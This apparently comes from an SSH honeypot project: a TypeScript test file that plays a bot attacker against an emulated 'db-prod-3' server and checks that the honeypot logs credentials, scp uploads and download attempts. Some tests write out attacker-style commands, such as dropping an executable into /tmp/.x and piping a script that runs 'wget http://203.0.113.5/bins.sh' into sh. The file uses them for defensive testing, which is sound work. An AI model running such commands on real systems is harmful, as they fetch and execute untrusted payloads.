// The ssh emulator against the system OpenSSH client (ssh, scp via sshpass):
// the client a human attacker uses must log in, run commands and upload.
import { test } from 'node:test'
import assert from 'node:assert/strict'
import { execFile, spawn } from 'node:child_process'
import { createHash, randomBytes } from 'node:crypto'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { CLIENT_ADDRESS, startEmulator } from '../../../test/helpers/emulator.js'

const PERSONA = { decky: { hostname: 'db-prod-3', distro: 'debian' } }
// BindAddress (ssh -b, and scp's -o): connect from CLIENT_ADDRESS, not the server's 127.0.0.1
const OPTS = ['-o', `BindAddress=${CLIENT_ADDRESS}`, '-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null', '-o', 'LogLevel=ERROR', '-o', 'PubkeyAuthentication=no']

function run(cmd: string, args: string[], env: Record<string, string> = {}): Promise<{ code: number; out: string; err: string }> {
  return new Promise((resolve) => {
    execFile(cmd, args, { timeout: 30_000, env: { ...process.env, ...env } }, (e, out, err) => {
      const code = e ? (typeof e.code === 'number' ? e.code : 1) : 0
      resolve({ code, out: String(out), err: String(err) })
    })
  })
}

const sshpass = (pw: string, tool: string, args: string[]) => run('sshpass', ['-e', tool, ...args], { SSHPASS: pw })

/** ssh with `input` on its stdin (then EOF), as `ssh host cmd < file` does. */
function sshWithInput(pw: string, args: string[], input: Buffer): Promise<{ code: number; out: string }> {
  return new Promise((resolve) => {
    const p = spawn('sshpass', ['-e', 'ssh', ...args], { env: { ...process.env, SSHPASS: pw } })
    let out = ''
    p.stdout.on('data', (d: Buffer) => (out += d.toString()))
    p.on('close', (code) => resolve({ code: code ?? 1, out }))
    p.stdin.end(input)
  })
}

test('openssh: sshpass + ssh exec returns the persona output and exit status', async (t) => {
  const h = await startEmulator(t, 'ssh', { password: 'S3cr3t!' }, PERSONA)
  const r = await sshpass('S3cr3t!', 'ssh', [...OPTS, '-p', String(h.port(22)), 'root@127.0.0.1', 'uname -a; cat /etc/os-release | head -n 1'])
  assert.equal(r.code, 0, r.err)
  assert.equal(r.out, 'Linux db-prod-3 6.1.0-23-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.99-1 (2024-07-15) x86_64 GNU/Linux\nPRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\n')
  const bad = await sshpass('S3cr3t!', 'ssh', [...OPTS, '-v', '-p', String(h.port(22)), 'root@127.0.0.1', 'false'])
  assert.equal(bad.code, 1)
  // EXT_INFO as sshd 9.2p1 words it (ssh2's own list had a missing comma)
  assert.match(bad.err, /server-sig-algs=<ssh-ed25519,sk-ssh-ed25519@openssh\.com,ecdsa-sha2-nistp256,ecdsa-sha2-nistp384,ecdsa-sha2-nistp521,sk-ecdsa-sha2-nistp256@openssh\.com,webauthn-sk-ecdsa-sha2-nistp256@openssh\.com,ssh-dss,ssh-rsa,rsa-sha2-256,rsa-sha2-512>/)
  assert.match(bad.err, /kex: algorithm: curve25519-sha256\b/)
  const auth = await h.sink.next('auth_attempt')
  assert.deepEqual([auth.fields.username, auth.fields.secret_printable, auth.fields.outcome, auth.fields.src_ip], ['root', 'S3cr3t!', 'success', CLIENT_ADDRESS])
  const cv = await h.sink.next('client_version')
  assert.match(cv.fields.client_version as string, /^SSH-2\.0-OpenSSH_/)
  assert.match(cv.fields.hassh as string, /^[0-9a-f]{32}$/)
})

test('openssh: wrong password is refused with OpenSSH wording', async (t) => {
  const h = await startEmulator(t, 'ssh', { password: 'S3cr3t!' }, PERSONA)
  const r = await sshpass('nope', 'ssh', [...OPTS, '-o', 'NumberOfPasswordPrompts=1', '-p', String(h.port(22)), 'root@127.0.0.1', 'id'])
  assert.notEqual(r.code, 0)
  assert.match(r.err, /Permission denied \(publickey,password\)/)
  const a = await h.sink.next('auth_attempt')
  assert.deepEqual([a.fields.secret_printable, a.fields.outcome, a.fields.src_ip], ['nope', 'failure', CLIENT_ADDRESS])
})

test('openssh: scp uploads (sftp and legacy -O protocol) are stored with the sent sha256', async (t) => {
  const h = await startEmulator(t, 'ssh', { password: 'S3cr3t!' }, PERSONA)
  const dir = mkdtempSync(join(tmpdir(), 'decnet-scp-'))
  t.after(() => rmSync(dir, { recursive: true, force: true }))
  for (const [mode, extra] of [['sftp', []], ['scp', ['-O']]] as const) {
    const payload = randomBytes(70_000)
    const file = join(dir, `bot-${mode}.bin`)
    writeFileSync(file, payload)
    const r = await sshpass('S3cr3t!', 'scp', [...OPTS, ...extra, '-P', String(h.port(22)), file, 'root@127.0.0.1:/tmp/'])
    assert.equal(r.code, 0, `${mode}: ${r.err}`)
    const sha = createHash('sha256').update(payload).digest('hex')
    const art = await h.sink.next('artifact', (e) => e.fields.sha256 === sha)
    assert.equal(art.fields.via, mode)
    assert.equal(art.fields.orig_path, `/tmp/bot-${mode}.bin`)
    assert.equal(createHash('sha256').update(readFileSync(art.fields.path as string)).digest('hex'), sha)
  }
  const r = await sshpass('S3cr3t!', 'ssh', [...OPTS, '-p', String(h.port(22)), 'root@127.0.0.1', 'ls /tmp'])
  assert.equal(r.out, 'bot-scp.bin\nbot-sftp.bin\n')
})

test('openssh: exec payloads on stdin (cat > file, | sh) are kept and interpreted', async (t) => {
  const h = await startEmulator(t, 'ssh', { password: 'S3cr3t!' }, PERSONA)
  const base = [...OPTS, '-p', String(h.port(22)), 'root@127.0.0.1']
  const payload = randomBytes(30_000)
  const r = await sshWithInput('S3cr3t!', [...base, 'cat > /tmp/.x && chmod +x /tmp/.x && ls -l /tmp/.x | wc -l'], payload)
  assert.deepEqual(r, { code: 0, out: '1\n' })
  const sha = createHash('sha256').update(payload).digest('hex')
  const art = await h.sink.next('artifact', (e) => e.fields.sha256 === sha)
  assert.deepEqual([art.fields.via, art.fields.cmd], ['exec_stdin', 'cat > /tmp/.x && chmod +x /tmp/.x && ls -l /tmp/.x | wc -l'])
  const script = Buffer.from('cd /tmp\nwget http://203.0.113.5/bins.sh\necho ok\n')
  const r2 = await sshWithInput('S3cr3t!', [...base, 'sh'], script)
  assert.deepEqual(r2, { code: 0, out: 'ok\n' })
  const dl = await h.sink.next('download_attempt')
  assert.equal(dl.fields.url, 'http://203.0.113.5/bins.sh')
  // a command that does not read stdin runs at once even though the client keeps stdin open
  const t0 = Date.now()
  const r3 = await sshpass('S3cr3t!', 'ssh', [...base, 'hostname'])
  assert.deepEqual([r3.code, r3.out], [0, 'db-prod-3\n'])
  assert.ok(Date.now() - t0 < 20_000)
})
